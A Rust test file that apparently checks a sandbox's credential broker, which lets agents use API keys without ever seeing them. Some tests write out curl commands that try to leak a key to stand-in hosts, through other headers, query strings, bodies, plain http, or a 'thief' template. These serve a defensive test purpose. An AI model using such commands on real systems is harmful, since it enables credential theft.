//! Secrets: used by agents, seen by none.

#[path = "credentials/agents.rs"]
mod agents;
#[path = "credentials/handoff.rs"]
mod handoff;
#[path = "credentials/logins.rs"]
mod logins;
#[path = "credentials/runtimes.rs"]
mod runtimes;
#[path = "credentials/visible.rs"]
mod visible;

use std::collections::BTreeSet;
use std::fs;
use std::io::{BufRead, BufReader};
use std::path::PathBuf;
use std::process::{Child, Stdio};
use std::sync::atomic::{AtomicU8, Ordering};

use serde_json::Value;
use wsm_tests::cli::{self, Output};
use wsm_tests::instance::{Instance, Part};
use wsm_tests::persona::Persona;
use wsm_tests::repo::Repo;
use wsm_tests::wait;

/// Names that the fake answers for.
const NAMES: [&str; 7] = [
    "api.anthropic.com",
    "platform.claude.com",
    "api.openai.com",
    "auth.openai.com",
    "chatgpt.com",
    "model.below.example",
    "other.below.example",
];

/// Long enough not to be found by chance.
const VALUE: &str = "sk-real-5c1f0a7e9d3b4826-never-inside";

/// A fake of the model APIs on a loopback address of its own, at the real ports, with certificates
/// of an authority that this instance's egress trusts.
pub(crate) struct World {
    fake: Child,
    pub(crate) wsm: Instance,
    log: PathBuf,
}

impl Drop for World {
    fn drop(&mut self) {
        self.fake
            .kill()
            .and_then(|()| self.fake.wait())
            .expect("a child of ours");
    }
}

/// An address of 127/8 that no other test has.
fn address() -> String {
    static COUNT: AtomicU8 = AtomicU8::new(1);
    let pid = std::process::id();
    let count = COUNT.fetch_add(1, Ordering::Relaxed);
    format!("127.{}.{}.{count}", 64 + (pid >> 8) % 128, pid % 256)
}

fn openssl(root: &Persona, dir: &std::path::Path, line: &str) {
    let mut command = root.command("openssl");
    command.args(line.split(' ')).current_dir(dir);
    cli::run(command, b"").ok();
}

impl World {
    pub(crate) fn new() -> World {
        let wsm = Instance::start();
        let (root, dir) = (wsm.root(), wsm.root().home().join("fake"));
        fs::create_dir(&dir).expect("a new directory");
        let key = "-newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes";
        let ca = format!("req -x509 {key} -days 2 -subj /CN=test -keyout ca.key -out ca.pem");
        openssl(root, &dir, &ca);
        let names = NAMES.map(|name| format!("DNS:{name}")).join(",");
        let request =
            format!("req {key} -subj /CN=fake -keyout key -out csr -addext subjectAltName={names}");
        openssl(root, &dir, &request);
        let sign = "x509 -req -in csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 -copy_extensions copyall -out crt";
        openssl(root, &dir, sign);
        let read = |name: &str| fs::read_to_string(dir.join(name)).expect("openssl wrote it");
        fs::write(dir.join("both"), read("key") + &read("crt")).expect("our own file");
        wsm.trust(&read("ca.pem"));
        let address = address();
        let hosts = NAMES
            .map(|name| format!("\"{name}\" = [\"{address}\"]\n"))
            .concat();
        let config = format!(
            "[egress]\npermit = [{{ names = {NAMES:?}, cidr = \"{address}/32\" }}]\n[egress.hosts]\n{hosts}"
        );
        fs::write(wsm.dir().join("etc/config.toml"), config).expect("root writes");
        let log = dir.join("log");
        let mut fake = root.command("python3");
        fake.args(["-c", include_str!("credentials/model.py")])
            .arg(dir.join("both"))
            .arg(&address)
            .arg(&log)
            .stdout(Stdio::piped());
        let mut fake = fake.spawn().expect("python runs");
        let mut line = String::new();
        let out = fake.stdout.take().expect("piped");
        BufReader::new(out).read_line(&mut line).expect("a line");
        assert_eq!(line, "serving\n");
        World { fake, wsm, log }
    }

    /// Who signed its certificates.
    pub(crate) fn authority(&self) -> String {
        let path = self.log.with_file_name("ca.pem");
        fs::read_to_string(path).expect("openssl wrote it")
    }

    /// Sets a secret the way scripts do.
    pub(crate) fn set(&self, arguments: &[&str]) -> Output {
        let line = [&["secret", "set"], arguments].concat();
        self.wsm.wsm_with(&line, format!("{VALUE}\n").as_bytes())
    }

    /// Requests that the fake was sent.
    pub(crate) fn requests(&self) -> Vec<Value> {
        let text = fs::read_to_string(&self.log).unwrap_or_default();
        let lines = text
            .lines()
            .map(|line| serde_json::from_str(line).expect("JSON"));
        lines.collect()
    }

    fn new_agent(&self, template: &str, name: &str) -> Repo<'_> {
        let repo = Repo::small(self.wsm.root(), name);
        self.wsm.new_agent(&repo, template, name);
        repo
    }

    /// Looks for the value in everything that the agent can read, its processes included.
    fn nowhere_inside(&self, agent: &str) {
        // From standard input: it must not be in an argument.
        let script = "cat > /dev/shm/what && cd / && \
             { grep -rlsaF -f /dev/shm/what --exclude-dir=proc --exclude-dir=usr --exclude=what \
                 --exclude-dir=lib --exclude-dir=lib64 --exclude-dir=bin --exclude-dir=sbin --devices=skip / ; \
               for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do \
                 grep -qsaF -f /dev/shm/what $f && echo $f; done; true; }; \
             echo canary-$(cat /dev/shm/what) > /dev/shm/canary; \
             grep -rlsaF -f /dev/shm/what --exclude=what /dev/shm";
        let line = ["exec", agent, "--", "sh", "-c", script];
        let found = self.wsm.wsm_with(&line, VALUE.as_bytes());
        // The search finds what is there: the canary, and nothing else.
        assert_eq!(found.text(), "/dev/shm/canary", "{found}");
        self.wsm
            .inside(agent, "rm /dev/shm/what /dev/shm/canary")
            .ok();
    }

    /// Looks for the value in everything that wsm keeps, says and runs as, on the host.
    fn nowhere_on_the_host(&self) {
        let log = self.wsm.log();
        assert!(!log.contains(VALUE), "{log}");
        let mut grep = self.wsm.root().command("grep");
        grep.args(["-rlsaF", VALUE, "--devices=skip"])
            .arg(self.wsm.dir());
        let found = cli::run(grep, b"");
        assert_eq!(found.text(), "", "{found}");
        for process in self.wsm.descendants() {
            for file in ["environ", "cmdline"] {
                let path = format!("/proc/{}/{file}", process.pid);
                let bytes = fs::read(path).unwrap_or_default();
                let found = bytes.windows(VALUE.len()).any(|w| w == VALUE.as_bytes());
                assert!(!found, "{process:?} {file}");
            }
        }
    }

    fn keyed(&self) {
        let template = r#"schema = 1
name = "keyed"
extends = ["shell"]
[network]
egress = "allow"
allow = ["model.below.example:80", "other.below.example"]
[credentials.model]
secret = "model-key"
hosts = ["model.below.example"]
header = "x-api-key"
env = "MODEL_KEY"
prefix = "sk-"
[files]
"~/.model.json" = '{"key":"{credential.model}"}'
"#;
        self.wsm.host_template("keyed", template);
    }
}

#[test]
fn a_secret_is_used_and_never_seen() {
    let world = World::new();
    world.keyed();
    world.set(&["model-key", "--expires", "1d"]).ok();
    let listed = world.wsm.wsm(&["secret", "ls", "--json"]).ok();
    let listed = listed.json();
    assert_eq!(listed[0]["name"], "model-key");
    assert_eq!(listed[0]["used"], "");
    world.new_agent("keyed", "keyed");
    let inside = |script: &str| world.wsm.inside("keyed", script);
    let placeholder = inside("echo $MODEL_KEY").ok().text().to_owned();
    assert!(
        placeholder.starts_with("sk-wsm-placeholder-"),
        "{placeholder}"
    );
    let file = inside("cat ~/.model.json").ok();
    assert_eq!(file.text(), format!("{{\"key\":\"{placeholder}\"}}"));
    // Every runtime trusts the authority without being told.
    let url = "https://model.below.example/echo";
    let curl = format!("curl -sS --max-time 20 -H \"x-api-key: $MODEL_KEY\" {url}");
    let python = format!(
        "python3 -c 'import os,urllib.request as u; print(u.urlopen(u.Request(\"{url}\", headers={{\"x-api-key\": os.environ[\"MODEL_KEY\"]}})).read().decode(), end=\"\")'"
    );
    let node = format!(
        "node -e 'fetch(\"{url}\", {{headers: {{\"x-api-key\": process.env.MODEL_KEY}}}}).then(r => r.text()).then(t => process.stdout.write(t))'"
    );
    let git = "git ls-remote https://model.below.example/x 2>&1 | grep -o 'not found'".to_owned();
    for script in [&curl, &python, &node] {
        assert_eq!(inside(script).ok().stdout, "echoed\n", "{script}");
    }
    assert_eq!(inside(&git).ok().text(), "not found");
    let requests = world.requests();
    let keyed = requests.iter().filter(|r| r["path"] == "/echo");
    assert_eq!(keyed.clone().count(), 3);
    for request in keyed {
        assert_eq!(request["headers"]["x-api-key"], VALUE, "{request}");
    }
    assert!(
        !serde_json::to_string(&requests)
            .expect("JSON")
            .contains(&placeholder)
    );
    world.nowhere_inside("keyed");
    world.nowhere_on_the_host();
    let shown = world.wsm.wsm(&["show", "keyed", "--json"]).ok().json();
    let shown = &shown["credentials"][0];
    assert_eq!(shown["name"], "model", "{shown}");
    assert_eq!(shown["ready"], true, "{shown}");
    assert_ne!(shown["used"], "", "{shown}");
    assert_eq!(shown["places"][0], "header x-api-key", "{shown}");
}

#[test]
fn a_placeholder_goes_nowhere_but_to_its_place() {
    let world = World::new();
    world.keyed();
    world.set(&["model-key"]).ok();
    world.new_agent("keyed", "keyed");
    let curl = |line: &str| {
        let line = format!("curl -sS --max-time 20 {line}");
        world.wsm.inside("keyed", &line)
    };
    let right = "-H \"x-api-key: $MODEL_KEY\" https://model.below.example/echo";
    assert_eq!(curl(right).ok().stdout, "echoed\n");
    let astray = [
        "-H \"x-other: $MODEL_KEY\" https://model.below.example/echo",
        "-H \"authorization: Bearer $MODEL_KEY\" https://model.below.example/echo",
        "\"https://model.below.example/echo?key=$MODEL_KEY\"",
        "-d \"key=$MODEL_KEY\" https://model.below.example/echo",
        "-H \"x-api-key: $MODEL_KEY\" http://model.below.example/echo",
    ];
    let before = world.requests().len();
    for line in astray {
        let said = curl(line);
        // A body has begun when it is found there: it is struck out.
        let refused = said.stdout.contains("wsm") || line.starts_with("-d");
        assert!(refused, "{line}: {said}");
    }
    let requests = world.requests();
    for request in &requests[before..] {
        let text = request.to_string();
        assert!(
            !text.contains(VALUE) && !text.contains("wsm-placeholder"),
            "{text}"
        );
    }
    let told = || {
        let told = world.wsm.wsm(&["explain", "keyed"]).ok().stdout;
        told.contains("stands in the header x-other") && !told.contains("wsm-placeholder")
    };
    wait::until_true("the security event", told);
    // Another host is not given it, whatever stands in the request.
    curl("-k -H \"x-api-key: $MODEL_KEY\" https://other.below.example/echo");
    let given: BTreeSet<String> = world
        .requests()
        .iter()
        .filter(|r| r.to_string().contains(VALUE))
        .map(|r| r["host"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert_eq!(given, BTreeSet::from(["model.below.example".to_owned()]));
}

#[test]
fn a_secret_changes_while_its_agent_runs() {
    let world = World::new();
    world.keyed();
    // Not set: the agent is made all the same, and told how to mend it.
    world.new_agent("keyed", "keyed");
    let shown = world.wsm.wsm(&["show", "keyed"]).ok();
    assert!(shown.stdout.contains("secret set model-key"), "{shown}");
    assert_eq!(
        world
            .wsm
            .inside("keyed", "echo \"<$MODEL_KEY>\"")
            .ok()
            .text(),
        "<>"
    );
    world.set(&["model-key"]).ok();
    let shown = world.wsm.wsm(&["show", "keyed"]).ok();
    assert!(shown.stdout.contains("restart it"), "{shown}");
    world.wsm.wsm(&["restart", "keyed"]).ok();
    world.wsm.wait_state("keyed", "working,idle,blocked");
    let curl = || {
        let line =
            "curl -sS --max-time 20 -H \"x-api-key: $MODEL_KEY\" https://model.below.example/echo";
        world.wsm.inside("keyed", line)
    };
    assert_eq!(curl().ok().stdout, "echoed\n");
    // Egress alone knows it, and keeps it; whom the sandbox trusts stays the same.
    world.wsm.kill_and_recover(&[Part::Egress]);
    wait::until_true("it is put in again", || curl().stdout == "echoed\n");
    world.wsm.kill_and_recover(&[Part::Daemon]);
    assert_eq!(curl().ok().stdout, "echoed\n");
    world.wsm.wsm(&["secret", "rm", "model-key"]).ok();
    let refused = curl();
    assert!(refused.stdout.contains("secret set model-key"), "{refused}");
    world.wsm.wsm(&["secret", "rm", "model-key"]).fails(4);
    world.nowhere_on_the_host();
}

#[test]
fn a_secret_is_its_owners() {
    let world = World::new();
    world.keyed();
    let (ada, eve) = (Persona::new("ada"), Persona::new("eve"));
    let set = |who: &Persona, arguments: &[&str], value: &str| {
        let line = [&["secret", "set"], arguments].concat();
        cli::run(world.wsm.command(who, &line), value.as_bytes())
    };
    set(&ada, &["model-key"], VALUE).ok();
    let listed = |who: &Persona| world.wsm.wsm_as(who, &["secret", "ls", "-q"]).ok().stdout;
    assert_eq!(listed(&ada), "model-key\n");
    assert_eq!(listed(&eve), "");
    assert_eq!(
        world.wsm.wsm(&["secret", "ls", "-q"]).ok().stdout,
        "model-key\n"
    );
    world
        .wsm
        .wsm_as(&eve, &["secret", "rm", "model-key"])
        .fails(4);
    set(
        &eve,
        &["model-key", "--everyone", "--to", "model.below.example"],
        "x",
    )
    .fails(3);
    set(&eve, &["model-key"], "two\nlines")
        .fails(2)
        .says("visible");
    set(&eve, &["Model"], "x").fails(2);
    set(&eve, &["model-key"], "").fails(2);
    // Everyone's is bound to hosts, whatever a template of somebody's says.
    world.set(&["model-key", "--everyone"]).fails(2);
    world
        .set(&["model-key", "--everyone", "--to", "model.below.example"])
        .ok();
    let template = "schema = 1\nname = \"thief\"\nextends = [\"keyed\"]\n[network]\nallow = []\n\
         [credentials.model]\nhosts = [\"other.below.example\"]\n";
    world.wsm.host_template("thief", template);
    let repo = Repo::small(&eve, "project");
    world.wsm.new_agent_as(&eve, &repo, "thief", "thief");
    let line =
        "curl -sS --max-time 20 -H \"x-api-key: $MODEL_KEY\" https://other.below.example/echo";
    let wsm = |line: &[&str]| world.wsm.wsm_as(&eve, line);
    let said = wsm(&["exec", "thief", "--", "sh", "-c", line]);
    assert!(said.stdout.contains("bound to other hosts"), "{said}");
    assert!(
        !world
            .requests()
            .iter()
            .any(|r| r.to_string().contains(VALUE))
    );
}
